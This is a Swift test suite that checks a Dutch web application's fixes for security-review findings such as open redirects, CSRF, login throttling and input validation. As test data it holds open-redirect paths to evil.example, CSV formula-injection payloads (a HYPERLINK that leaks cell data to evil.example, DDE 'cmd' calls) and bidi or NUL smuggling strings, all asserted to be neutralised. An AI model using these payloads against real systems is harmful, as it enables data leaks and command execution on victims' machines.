import Foundation
import HTTPTypes
import Hummingbird
import HummingbirdTesting
import Testing
import VliegwielCore
import VliegwielInterchange

@testable import VliegwielStorage
@testable import VliegwielWeb

/// The security review's medium findings M1, M4 and M5 (issue 17), each with the review's own
/// attack as the test.
@Suite struct HardeningWebTests {
    /// M1: a return path never leads to another host, however the browser would read it.
    @Test(
        "A return path after login stays on this site",
        arguments: [
            ("/\t/evil.example/", "/"), ("/\n/evil.example/", "/"), ("/\r\n/evil.example", "/"),
            ("//evil.example/", "/"), ("/\\evil.example/", "/"), ("/\\/evil.example", "/"),
            ("https://evil.example/", "/"), ("evil.example", "/"), ("/ evil", "/"), ("/\u{0}x", "/"),
            ("/arrangementen/regio-deal", "/arrangementen/regio-deal"),
            ("/portefeuille?tranche=3#t3", "/portefeuille?tranche=3#t3"),
            ("/%2F%2Fevil.example", "/%2F%2Fevil.example"),
        ])
    func returnPathStaysOnThisSite(given: String, kept: String) {
        #expect(AccountRoutes.safeReturn(given) == kept)
    }

    @Test("The review's M1 request lands on the home page, not on another host")
    func theReviewsRedirectIsRefused() async throws {
        let fixture = try await AccountWebFixture()
        let secret = try await fixture.makeAccount("lezer1", .reader)
        try await fixture.test { client in
            var fields = [("naam", "lezer1"), ("wachtwoord", AccountWebFixture.password)]
            fields.append(("code", AccountSecrets.totpCode(secret: secret!, at: fixture.clock.now)))
            fields.append(("terug", "/\t/127.0.0.2:18999/after-login"))
            let response = try await client.execute(
                uri: AccountURL.login.href, method: .post, headers: [.contentType: "application/x-www-form-urlencoded"],
                body: ByteBuffer(string: AccountWebFixture.form(fields)))
            #expect(response.status == .seeOther)
            #expect(response.headers[.location] == "/")
            // The login form does not carry the value into its hidden field either.
            let page = try await client.get("/inloggen?terug=%2F%09%2Fevil.example%2F").text
            #expect(!page.contains("evil.example"))
        }
    }

    /// M5: no page of a signed-in session is kept by a browser or proxy.
    @Test("Every page of a signed-in session says no-store")
    func signedInPagesAreNotStored() async throws {
        let fixture = try await AccountWebFixture()
        try await fixture.test { client in
            let visitor = try await fixture.signedIn(client, "beheer", .administrator)
            for path in ["/account", "/beheer/audit", "/", "/arrangementen/regio-deal"] {
                let response = try await visitor.get(path)
                #expect(response.status == .ok, "\(path)")
                #expect(response.headers[.cacheControl] == "no-store", "\(path)")
            }
        }
    }

    /// M4: the review's payloads come out as text in a spreadsheet, numbers stay numbers.
    @Test(
        "A CSV cell never starts a formula",
        arguments: [
            (
                "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Klik hier\")",
                "'=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Klik hier\")"
            ),
            ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"), ("@SUM(1+1)*cmd|x", "'@SUM(1+1)*cmd|x"),
            ("+31 6 12", "'+31 6 12"), ("\t=1+1", "'\t=1+1"), ("\r=1", "'\r=1"), ("\r\n=1", "'\r\n=1"), ("-", "'-"),
            ("-2", "-2"), ("+3,5", "+3,5"), ("-12.50", "-12.50"), ("Gemeente Assen", "Gemeente Assen"), ("", ""),
        ])
    func csvCellsAreText(value: String, written: String) {
        #expect(DutchCSV.safe(value) == written)
    }
}

/// Security review M3: no more QCA analyses at once than allowed; the next is refused with 503.
@Suite struct QCAWebLimitsTests {
    @Test("A QCA analysis beyond the allowed number at once gets 503 with Retry-After")
    func aBusyServerRefusesAtOnce() async throws {
        let limits = QCAWebLimits(seconds: 1, concurrent: 1)
        let (entered, enteredContinuation) = AsyncStream.makeStream(of: Void.self)
        let (release, releaseContinuation) = AsyncStream.makeStream(of: Void.self)
        let first = Task {
            try await limits.run {
                enteredContinuation.yield()
                for await _ in release { break }
                return 1
            }
        }
        for await _ in entered { break }
        do {
            _ = try await limits.run { 2 }
            Issue.record("de tweede analyse had geweigerd moeten worden")
        } catch let problem as Problem {
            #expect(problem.status == .serviceUnavailable)
            #expect(problem.headers[.retryAfter] == "5")
        }
        releaseContinuation.yield()
        #expect(try await first.value == 1)
        // The place is free again.
        #expect(try await limits.run { 3 } == 3)
    }
}

/// Security review M2: thirty guesses at the same moment for one account; the throttle lets
/// through only the free failures, the rest wait (the review saw 30× 401 and 0× 429).
@Suite struct ConcurrentLoginThrottleTests {
    @Test("Concurrent wrong guesses cannot all pass the throttle")
    func concurrentGuessesAreThrottled() async throws {
        let fixture = try await AccountWebFixture()
        try await fixture.makeAccount("gelijkenaam2", .reader)
        let service = fixture.service
        let outcomes = try await withThrowingTaskGroup(of: AccountService.LoginOutcome.self) { group in
            for guess in 0..<30 {
                group.addTask {
                    try await service.login(
                        name: "gelijkenaam2", password: "race guess \(guess)", code: nil,
                        clientAddress: "127.0.2.\(guess + 1)")
                }
            }
            var all: [AccountService.LoginOutcome] = []
            for try await outcome in group { all.append(outcome) }
            return all
        }
        let refused = outcomes.filter { if case .refused = $0 { true } else { false } }.count
        let throttled = outcomes.filter { if case .throttled = $0 { true } else { false } }.count
        let free = AccountLoginThrottle().freeAccountFailures
        #expect(refused == free, "\(refused) × 401")
        #expect(throttled == 30 - free, "\(throttled) × 429")
        // Every attempt that was let through is recorded as failed, none twice.
        let failures = try await fixture.stores.accounts.loginFailures(
            accountName: "gelijkenaam2", since: .distantPast)
        #expect(failures.count == free)
    }

    @Test("A successful login after a reservation counts as success")
    func aReservedAttemptIsConfirmedOnSuccess() async throws {
        let fixture = try await AccountWebFixture()
        let secret = try await fixture.makeAccount("goed", .reader, secondFactor: false)
        #expect(secret == nil)
        let outcome = try await fixture.service.login(
            name: "goed", password: AccountWebFixture.password, code: nil, clientAddress: "127.0.0.9")
        guard case .signedIn = outcome else {
            Issue.record("niet ingelogd: \(outcome)")
            return
        }
        #expect(try await fixture.stores.accounts.loginFailures(accountName: "goed", since: .distantPast).isEmpty)
        #expect(
            try await fixture.stores.accounts.loginFailures(clientAddress: "127.0.0.9", since: .distantPast).isEmpty)
    }
}

/// Security review M7: behind the trusted proxy every connection has the proxy's address; the
/// address throttle keys on the address the proxy forwards, so one sprayer cannot block all.
@Suite struct ProxyAddressThrottleTests {
    static func spray(_ fixture: AccountWebFixture, _ client: any TestClientProtocol, from address: String) async throws
    {
        for attempt in 0..<20 {
            _ = try await fixture.logIn(
                client, "spray\(attempt)", secret: nil, password: "fout fout fout \(attempt)",
                headers: [HTTPField.Name("X-Forwarded-For")!: address])
        }
    }

    @Test("Behind the proxy, 20 failures from one client do not block another client")
    func aSprayerBlocksOnlyItself() async throws {
        let fixture = try await AccountWebFixture(secureCookies: .whenForwardedProtoIsHTTPS)
        let secret = try await fixture.makeAccount("reda", .reader)
        try await fixture.test { client in
            try await Self.spray(fixture, client, from: "198.51.100.7")
            let sprayer = try await fixture.logIn(
                client, "reda", secret: secret, headers: [HTTPField.Name("X-Forwarded-For")!: "198.51.100.7"])
            #expect(sprayer.status == .tooManyRequests)
            let other = try await fixture.logIn(
                client, "reda", secret: secret,
                headers: [HTTPField.Name("X-Forwarded-For")!: "203.0.113.1, 198.51.100.20"])
            #expect(other.status == .seeOther)
        }
    }

    @Test("Without the proxy the header is ignored: anyone could send it")
    func withoutTheProxyTheHeaderIsIgnored() async throws {
        let fixture = try await AccountWebFixture()
        let secret = try await fixture.makeAccount("reda", .reader)
        try await fixture.test { client in
            try await Self.spray(fixture, client, from: "198.51.100.7")
            let other = try await fixture.logIn(
                client, "reda", secret: secret, headers: [HTTPField.Name("X-Forwarded-For")!: "203.0.113.1"])
            #expect(other.status == .tooManyRequests)
        }
    }
}

/// Security review M6: the database file is removed while the server runs. The health check
/// fails and writes are refused, instead of 201s into a removed file that vanish at restart.
@Suite struct DatabaseFileGuardTests {
    @Test("With its database file removed, the server refuses writes and reports unhealthy")
    func aRemovedDatabaseFileStopsWrites() async throws {
        let folder = FileManager.default.temporaryDirectory.appendingPathComponent("vliegwiel-guard-\(UUID())")
        try FileManager.default.createDirectory(at: folder, withIntermediateDirectories: true)
        defer { try? FileManager.default.removeItem(at: folder) }
        let path = folder.appendingPathComponent("del.sqlite").path
        let app = try await TestApplication(
            stores: Stores(sqlite: try AppDatabase(path: path)),
            configure: { $0.databaseFile = DatabaseFileGuard(path: path) })
        try await app.test(.router) { client in
            #expect(try await client.get("/gezondheid").status == .ok)
            for suffix in ["", "-wal", "-shm"] { try? FileManager.default.removeItem(atPath: path + suffix) }
            let health = try await client.get("/gezondheid")
            #expect(health.status == .serviceUnavailable)
            #expect(health.text.contains("verwijderd"))
            let write = try await client.execute(
                uri: "/api/v1/arrangementen", method: .post, headers: [.contentType: "application/json"],
                body: ByteBuffer(string: "{}"))
            #expect(write.status == .serviceUnavailable)
            #expect(write.headers[.retryAfter] == "60")
            #expect(String(buffer: write.body).contains("Er wordt niets opgeslagen"))
            // Reading still works: what was there can be seen, nothing new is accepted.
            #expect(try await client.get("/catalogus").status == .ok)
        }
    }
}

/// Security review L9: the health check makes a write, so that a database that refuses writes
/// is reported as unhealthy with its reason instead of "ok".
@Suite struct HealthWriteTests {
    @Test("A database that does not take the health check's write makes /gezondheid answer 503 with the reason")
    func aReadOnlyDatabaseIsUnhealthy() async throws {
        let database = try AppDatabase()
        let app = try await TestApplication(stores: Stores(sqlite: database))
        try await app.test(.router) { client in
            #expect(try await client.get("/gezondheid").status == .ok)
            // What a file system remounted read-only does to SQLite: every write is refused.
            try await database.writer.writeWithoutTransaction { try $0.execute(sql: "PRAGMA query_only = 1") }
            let health = try await client.get("/gezondheid")
            #expect(health.status == .serviceUnavailable)
            #expect(health.headers[.retryAfter] == "60")
            #expect(
                health.text.contains(
                    "de database neemt geen schrijfopdracht aan: de database kan nu alleen worden gelezen"))
        }
    }
}

/// Security review L1, L2, L3, L8.
@Suite struct LowFindingsWebTests {
    /// L1: `//api/v1/…` no longer reaches the API's handlers as a site path.
    @Test("A path with an empty, '.' or '..' segment is refused before routing")
    func oddPathsAreRefused() async throws {
        let fixture = try await AccountWebFixture()
        try await fixture.test { client in
            let visitor = try await fixture.signedIn(client, "reda", .administrator)
            let session = try #require(visitor.sessionID)
            let path = "/api/v1/arrangementen/\(AccountWebFixture.demo)/programmalijnen/wegwerp"
            let response = try await client.execute(
                uri: "/" + path, method: .delete, headers: [.cookie: "vliegwiel-sessie=\(session)"])
            #expect(response.status == .notFound)
            for odd in ["/arrangementen//regio-deal", "/arrangementen/./regio-deal", "/api/v1/../catalogus"] {
                #expect(try await client.get(odd).status == .notFound, "\(odd)")
            }
            #expect(PathShapeMiddleware<AppRequestContext>.isCanonical("/arrangementen/regio-deal"))
            #expect(PathShapeMiddleware<AppRequestContext>.isCanonical("/"))
            // A body-less DELETE on a site path reaches no handler: the site takes only GET and POST.
            let delete = try await client.execute(
                uri: "/arrangementen/\(AccountWebFixture.demo)", method: .delete,
                headers: [.cookie: "vliegwiel-sessie=\(session)"])
            #expect(delete.status == .methodNotAllowed)
        }
    }

    /// The CSRF rule rests on this: every site route is GET, HEAD or POST, so a request with
    /// another method and no body reaches no site handler.
    @Test("Site routes take only GET, HEAD and POST")
    func siteRoutesTakeOnlyGetAndPost() async throws {
        let fixture = try await AccountWebFixture()
        let other = fixture.routes.filter {
            !$0.pattern.hasPrefix(APIURL.base) && ![.get, .head, .post].contains($0.method)
        }
        #expect(other.isEmpty, "\(other)")
    }

    /// L2: another site's login form does not sign the visitor in.
    @Test("A login posted from another site is refused")
    func loginCSRFIsRefused() async throws {
        let fixture = try await AccountWebFixture()
        let secret = try await fixture.makeAccount("lezer1", .reader)
        try await fixture.test { client in
            let foreign = try await fixture.logIn(
                client, "lezer1", secret: secret, headers: [.origin: "https://evil.example"])
            #expect(foreign.status == .forbidden)
            #expect(foreign.headers[.setCookie] == nil)
            let null = try await fixture.logIn(client, "lezer1", secret: secret, headers: [.origin: "null"])
            #expect(null.status == .forbidden)
            // Without Origin (a program) it works as before.
            #expect(try await fixture.logIn(client, "lezer1", secret: secret).status == .seeOther)
        }
    }

    /// L3: HSTS where the site is served over HTTPS.
    @Test("HTTPS sends Strict-Transport-Security, plain HTTP does not")
    func hstsOverHTTPS() async throws {
        let secure = try await AccountWebFixture(secureCookies: .always)
        try await secure.test { client in
            let response = try await client.get("/")
            #expect(response.headers[HTTPField.Name("Strict-Transport-Security")!] == "max-age=31536000")
        }
        let plain = try await AccountWebFixture()
        try await plain.test { client in
            let response = try await client.get("/")
            #expect(response.headers[HTTPField.Name("Strict-Transport-Security")!] == nil)
        }
    }

    /// L8: with reading closed, the metrics and the API description need an account too.
    @Test("With --alleen-met-account, /metrics and the OpenAPI document are not open")
    func metricsAreClosedWithReading() async throws {
        let fixture = try await AccountWebFixture(readingWithoutAccount: false)
        try await fixture.test { client in
            let metrics = try await client.get("/metrics")
            let openAPI = try await client.get("/api/v1/openapi.json")
            let health = try await client.get("/gezondheid")
            #expect(metrics.status == .unauthorized || metrics.status == .seeOther, "\(metrics.status)")
            #expect(openAPI.status == .unauthorized)
            #expect(health.status == .ok)
        }
        let open = try await AccountWebFixture()
        try await open.test { client in
            let metrics = try await client.get("/metrics")
            #expect(metrics.status == .ok)
        }
    }
}

/// Security review L6 (and the root of H1): control and bidi characters are refused in every
/// form and JSON body, each field named, before anything is stored or hashed.
@Suite struct InputTextTests {
    @Test(
        "The input rule refuses control and bidi characters and keeps ordinary text",
        arguments: [
            ("Gemeente\u{0}Nul", false), ("Gemeente \u{202E}evil\u{202C}", false), ("a\u{7}b", false),
            ("x\u{85}y", false), ("\u{2067}x", false), ("Gemeente Assen", true), ("regel 1\nregel 2\tmet tab", true),
            ("Súdwest-Fryslân — 2 december 2026 €", true), ("", true),
        ])
    func theRule(text: String, passes: Bool) {
        #expect((InputText.problem(in: text) == nil) == passes)
    }

    @Test("A JSON body with a NUL or an override is refused with every field named")
    func jsonIsRefused() async throws {
        let fixture = try await AccountWebFixture()
        try await fixture.test { client in
            let body = #"{"id":"p1","organisatie":"Gemeente\u0000Nul","rollen":["x\u202Ey"],"type":"gemeente"}"#
            let response = try await client.execute(
                uri: "/api/v1/arrangementen/\(AccountWebFixture.demo)/partners", method: .post,
                headers: [.contentType: "application/json"], body: ByteBuffer(string: body))
            #expect(response.status == .badRequest)
            #expect(response.headers[.contentType] == "application/problem+json")
            let names = try (response.json()["invalidParams"] as? [[String: Any]] ?? []).compactMap {
                $0["name"] as? String
            }
            #expect(names == ["organisatie", "rollen[0]"])
        }
    }

    @Test("A login name with a NUL is refused before the login and the audit trail see it")
    func aNulInTheLoginNameIsRefused() async throws {
        let fixture = try await AccountWebFixture()
        try await fixture.test { client in
            let before = try await fixture.stores.audit.entries(AuditQuery()).total
            let response = try await client.execute(
                uri: AccountURL.login.href, method: .post, headers: [.contentType: "application/x-www-form-urlencoded"],
                body: ByteBuffer(string: "naam=evil%00x&wachtwoord=xxxxxxxxxx"))
            #expect(response.status == .badRequest)
            #expect(response.text.contains("naam"))
            #expect(try await fixture.stores.audit.entries(AuditQuery()).total == before)
        }
    }
}

/// The input rule's second half (issue 17 item 1): text that passes is stored in NFC, and a
/// refused site form shows everything that was typed again, with a summary linked to each field.
@Suite struct InputNormalisationTests {
    @Test(
        "A form body is handed on in NFC; parts already in NFC keep their bytes",
        arguments: [
            ("naam=Su%CC%81dwest&x=1", "naam=S%C3%BAdwest&x=1"),
            ("naam=S%C3%BAdwest+Frysl%C3%A2n", "naam=S%C3%BAdwest+Frysl%C3%A2n"),
            ("a%3D=e%CC%81%26", "a%3D=%C3%A9%26"), ("", ""),
        ])
    func formsAreNormalised(body: String, handedOn: String) {
        #expect(InputTextMiddleware<BasicRequestContext>.normalizedForm(body) == handedOn)
    }

    @Test("A name sent through the API with a combining accent is stored precomposed")
    func jsonIsStoredInNFC() async throws {
        let fixture = try await AccountWebFixture()
        try await fixture.makeAccount("beheer", .administrator)
        let (_, secret) = try await fixture.service.createToken(named: "script", for: "beheer")
        try await fixture.test { client in
            let decomposed = "Gemeente Su\u{0301}dwest-Fryslân"
            let body = try JSONSerialization.data(withJSONObject: [
                "id": "p-nfc", "organisatie": decomposed, "rollen": ["financier"], "type": "bedrijf",
            ])
            let response = try await client.execute(
                uri: "/api/v1/arrangementen/\(AccountWebFixture.demo)/partners", method: .post,
                headers: [.contentType: "application/json", .authorization: "Bearer \(secret)"],
                body: ByteBuffer(bytes: body))
            #expect(response.status == .created, "\(response.text)")
            let record = try #require(try await fixture.stores.portfolio.record(id: AccountWebFixture.demo))
            let stored = try #require(record.partners.first { $0.id == "p-nfc" })
            #expect(stored.organisation.unicodeScalars.elementsEqual("Gemeente Súdwest-Fryslân".unicodeScalars))
            #expect(!stored.organisation.unicodeScalars.contains("\u{0301}"))
        }
    }

    @Test("A refused form shows what was typed, a summary linked to the field, and never the password")
    func aRefusedFormKeepsTheInput() async throws {
        let fixture = try await AccountWebFixture()
        try await fixture.test { client in
            let response = try await client.execute(
                uri: AccountURL.login.href, method: .post, headers: [.contentType: "application/x-www-form-urlencoded"],
                body: ByteBuffer(string: "naam=Anna%E2%80%AEx&wachtwoord=geheim+wachtwoord+123"))
            #expect(response.status == .badRequest)
            let page = response.text
            #expect(page.contains(#"<div class="error-summary""#))
            #expect(page.contains(##"<a href="#invoer-1">naam: bevat een teken dat de leesrichting omdraait"##))
            #expect(page.contains(#"<textarea id="invoer-1""#))
            #expect(page.contains("Anna⟨U+202E⟩x"))
            #expect(!page.contains("geheim"))
            #expect(!page.contains("\u{202E}"))
        }
    }
}

/// Security review L4: offboarding, and tokens after a password change.
@Suite struct OffboardingTests {
    @Test("A blocked account cannot log in, its sessions end and its API keys stop working")
    func blockingCutsAllAccess() async throws {
        let fixture = try await AccountWebFixture()
        let secret = try await fixture.makeAccount("redb", .reader)
        try await fixture.test { client in
            let visitor = try await fixture.signedIn(client, "redb2", .reader)
            let (_, key) = try await fixture.service.createToken(named: "script", for: "redb2")
            #expect(try await fixture.service.account(bearer: key) != nil)
            let (sessions, tokens) = try await fixture.service.block("redb2")
            #expect(sessions == 1)
            #expect(tokens == 1)
            #expect(try await fixture.service.account(bearer: key) == nil)
            #expect(try await visitor.get("/account").status == .seeOther)
            // The right password of another, unblocked account still works; this one is refused alike.
            #expect(try await fixture.logIn(client, "redb", secret: secret).status == .seeOther)
            let refused = try await fixture.service.login(
                name: "redb2", password: AccountWebFixture.password, code: nil, clientAddress: "127.0.0.1")
            guard case .refused(let message) = refused else {
                Issue.record("geblokkeerd account kon inloggen: \(refused)")
                return
            }
            #expect(message == AccountService.refusedMessage)
            // A new password does not lift the block.
            try await fixture.service.changePassword(of: "redb2", to: "een geheel nieuwe lange zin")
            #expect(try await fixture.stores.accounts.account(named: "redb2")?.isBlocked == true)
            try await fixture.service.unblock("redb2")
            #expect(try await fixture.stores.accounts.account(named: "redb2")?.isBlocked == false)
            #expect(try await fixture.service.account(bearer: key) == nil, "een ingetrokken sleutel blijft ingetrokken")
        }
    }

    @Test("All API keys of an account can be revoked at once, as after a password change")
    func tokensCanBeRevokedAfterAPasswordChange() async throws {
        let fixture = try await AccountWebFixture()
        try await fixture.makeAccount("redc", .reader)
        let (_, first) = try await fixture.service.createToken(named: "een", for: "redc")
        let (_, second) = try await fixture.service.createToken(named: "twee", for: "redc")
        try await fixture.service.changePassword(of: "redc", to: "een geheel nieuwe lange zin")
        #expect(try await fixture.service.account(bearer: first) != nil)
        #expect(try await fixture.service.revokeAllTokens(of: "redc") == 2)
        #expect(try await fixture.service.account(bearer: first) == nil)
        #expect(try await fixture.service.account(bearer: second) == nil)
    }
}

/// L4 on /beheer/gebruikers: an administrator blocks and unblocks with a form.
@Suite struct AdminBlockingTests {
    @Test("An administrator blocks and unblocks an account on the users page")
    func blockAndUnblockOnThePage() async throws {
        let fixture = try await AccountWebFixture()
        try await fixture.makeAccount("redd", .reader)
        try await fixture.test { client in
            let admin = try await fixture.signedIn(client, "beheer", .administrator)
            let blocked = try await admin.post("/beheer/gebruikers/redd/blokkeren")
            #expect(blocked.status == .ok)
            #expect(blocked.bodyText.contains("redd is geblokkeerd"))
            #expect(blocked.bodyText.contains("Blokkade opheffen"))
            #expect(try await fixture.stores.accounts.account(named: "redd")?.isBlocked == true)
            let unblocked = try await admin.post("/beheer/gebruikers/redd/deblokkeren")
            #expect(unblocked.bodyText.contains("De blokkade van redd is opgeheven"))
            #expect(try await fixture.stores.accounts.account(named: "redd")?.isBlocked == false)
            let own = try await admin.post("/beheer/gebruikers/beheer/blokkeren")
            #expect(own.bodyText.contains("u kunt uzelf niet blokkeren"))
        }
    }
}
